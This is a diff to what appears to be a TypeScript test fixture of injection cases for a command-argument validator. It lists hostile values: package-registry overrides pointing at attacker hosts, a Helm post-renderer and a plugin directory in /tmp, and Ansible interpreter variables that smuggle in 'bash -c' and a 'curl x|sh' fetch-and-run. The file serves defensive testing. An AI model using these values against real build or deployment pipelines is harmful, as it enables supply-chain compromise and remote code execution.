@@ -59,7 +59,8 @@ const ATTACKS: Array<[string, string, string?]> = [
   ["requirements", "--index-url http://pypi.attacker.example/simple flask"],
   ["options", "--registry=http://203.0.113.50:4873/"],
   ["options", "--source https://198.51.100.9/nuget"],
-  ["extra_args", "--post-renderer=./kustomize-wrapper"],
+  // Round 14: a repository script as post-renderer passes; a temp-dir program does not.
+  ["extra_args", "--post-renderer=/tmp/kustomize-wrapper"],
   ["args", "-plugin-dir /tmp/providers"],
   ["extra_vars", "ansible_shell_interpreter='bash -c \"id\"'"],
   ["extra_vars", "ansible_python_interpreter=/usr/bin/python3; curl x|sh"],
